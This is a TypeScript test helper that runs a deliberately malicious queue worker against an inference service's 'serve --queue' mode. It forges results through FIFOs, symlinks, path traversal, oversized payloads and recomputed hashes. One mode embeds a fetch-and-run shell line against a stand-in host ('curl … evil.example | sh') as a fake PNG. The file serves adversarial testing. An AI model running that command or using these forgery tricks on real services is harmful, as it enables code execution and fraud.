/**
 * A hostile worker for the tests: a real BullMQ worker on the real queue in Redis (the keys, job data
 * and result format of `imo worker`), holding no key, which runs the model honestly and then forges
 * its answer in one way (MODE), as a worker trying to freeze `imo serve --queue` or make it sign
 * something it did not compute would.
 *
 *   node --import tsx test/helpers/maliciousWorker.ts REDIS_URL MODEL MODE ARTIFACT_DIR
 *
 * Logs JSON lines on stderr (`ready`, then one `job` per job) like `imo worker --json`; SIGTERM stops it.
 * MODE:
 *   fifo           outputs "in" ARTIFACT_DIR/<outputHash>.imt, a FIFO nobody writes to
 *   symlink        <outputHash>.imt a symlink to the right bytes outside the folder
 *   sparse         <outputHash>.imt a 1.8 GB sparse file
 *   inline         a 30 MB base64 value inline in the return value
 *   redis-huge     20 MB stored under the job's outputs key in Redis
 *   name-record    outputs named `record.json` (serve's own file name)
 *   dotdot         outputs named `../x`
 *   artifact-name  an honest result whose record names its artifact `record.json`
 *   shell-png      a shell script as the artifact, labelled image/png (hashes and aigcData made to fit)
 *   input-hash     a forged inputHash (commitment made to fit)
 *   settings       run with 16 threads and recorded with onnxruntime `0.0.1-evil` (hashes made to fit)
 *   other-prompt   the outputs (and artifact) of another prompt, in an otherwise consistent record
 */
import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { hostname } from 'node:os'
import { dirname, join } from 'node:path'
import { Worker } from 'bullmq'
import { keccak256 } from 'viem'
import { assembleInference } from '../../src/inference/assembleInference.js'
import { computeCommitment } from '../../src/inference/commitment.js'
import { computeConfigHash } from '../../src/inference/config.js'
import { aigcDataBytes } from '../../src/inference/erc7007.js'
import { loadModel } from '../../src/inference/loadModel.js'
import type { InferenceRecord } from '../../src/inference/record.js'
import { runInference } from '../../src/inference/runInference.js'
import { loadRedis, parseQueueUrl, redisOptions } from '../../src/queue/connectRedis.js'
import { type InferenceJobData, QUEUE_NAME, QUEUE_PREFIX } from '../../src/queue/inferenceJob.js'
import { outputsFileName, outputsKey, RESULT_FORMAT } from '../../src/queue/workerResult.js'
import { type Bytes32, sha256Hex } from '../../src/tensor/encodeTensors.js'

const [url, modelPath, mode, artifactDir] = process.argv.slice(2) as [string, string, string, string]
const line = (event: Record<string, unknown>) => process.stderr.write(`${JSON.stringify(event)}\n`)

const connection = redisOptions(parseQueueUrl(url))
const Redis = await loadRedis()
const redis = new Redis(connection)
const model = await loadModel(modelPath)
const identity = { id: `evil-${mode}:${process.pid}`, host: hostname(), pid: process.pid }

const recommit = (record: InferenceRecord) => {
  record.configHash = computeConfigHash(record.config)
  record.commitment = computeCommitment(record)
}

const worker = new Worker<InferenceJobData>(
  QUEUE_NAME,
  async (job) => {
    line({ event: 'job', jobId: job.id, mode })
    const { prompt, aigcDataMode } = job.data
    const honest = await runInference({ modelPath: model, prompt, aigcDataMode })
    const record = structuredClone(honest.record)
    let outputEncoding = honest.outputEncoding
    let outputs: Record<string, unknown> = { in: 'redis' }
    const file = () => join(artifactDir, outputsFileName(record.outputHash))
    switch (mode) {
      case 'fifo':
        execFileSync('mkfifo', [file()])
        outputs = { in: 'file', file: outputsFileName(record.outputHash) }
        break
      case 'symlink': {
        const elsewhere = join(dirname(artifactDir), 'elsewhere', outputsFileName(record.outputHash))
        mkdirSync(dirname(elsewhere), { recursive: true })
        writeFileSync(elsewhere, honest.outputEncoding)
        symlinkSync(elsewhere, file())
        outputs = { in: 'file', file: outputsFileName(record.outputHash) }
        break
      }
      case 'sparse':
        writeFileSync(file(), '')
        truncateSync(file(), 1_800_000_000)
        outputs = { in: 'file', file: outputsFileName(record.outputHash) }
        break
      case 'inline':
        return {
          format: RESULT_FORMAT,
          record,
          outputs: { in: 'inline', base64: Buffer.alloc(30_000_000, 7).toString('base64') },
          worker: identity,
          attempt: 1,
        }
      case 'redis-huge':
        outputEncoding = new Uint8Array(20_000_000).fill(9)
        break
      case 'name-record':
        writeFileSync(join(artifactDir, 'record.json'), honest.outputEncoding)
        outputs = { in: 'file', file: 'record.json' }
        break
      case 'dotdot':
        outputs = { in: 'file', file: '../x' }
        break
      case 'artifact-name':
        record.artifact.file = 'record.json'
        break
      case 'shell-png': {
        const script = new TextEncoder().encode('#!/bin/sh\ncurl -s https://evil.example/x | sh\n')
        record.artifact = { ...record.artifact, mime: 'image/png', sha256: sha256Hex(script), size: script.byteLength }
        record.aigcDataHash = keccak256(aigcDataBytes(script, aigcDataMode)) as Bytes32
        break
      }
      case 'input-hash':
        record.inputHash = sha256Hex(randomBytes(32))
        recommit(record)
        break
      case 'settings': {
        const threaded = await loadModel(modelPath, { config: { ...model.config, intraOpNumThreads: 16 } })
        const run = await runInference({ modelPath: threaded, prompt, aigcDataMode })
        Object.assign(record, structuredClone(run.record))
        record.config = { ...record.config, onnxruntimeVersion: '0.0.1-evil' }
        recommit(record)
        outputEncoding = run.outputEncoding
        break
      }
      case 'other-prompt': {
        const other = await runInference({ modelPath: model, prompt: `${prompt}, but another one`, aigcDataMode })
        const forged = assembleInference({
          model,
          pipeline: 'module',
          prompt,
          inputs: honest.inputs,
          outputs: other.outputs,
          artifact: other.artifact,
          aigcDataMode,
          startedAt: new Date(),
          finishedAt: new Date(),
        })
        Object.assign(record, forged.record)
        outputEncoding = forged.outputEncoding
        break
      }
      default:
        throw new Error(`unknown mode ${mode}`)
    }
    if (outputs.in === 'redis') await redis.set(outputsKey(job.id!, record.outputHash), Buffer.from(outputEncoding), 'EX', 3600)
    return { format: RESULT_FORMAT, record, outputs, worker: identity, attempt: job.attemptsMade + 1 }
  },
  { connection, prefix: QUEUE_PREFIX, name: identity.id, concurrency: 1 },
)
worker.on('error', () => {})
await worker.waitUntilReady()
line({ event: 'ready', worker: identity.id, mode })
process.on('SIGTERM', () => {
  void worker.close(true).finally(() => {
    redis.disconnect()
    process.exit(0)
  })
})
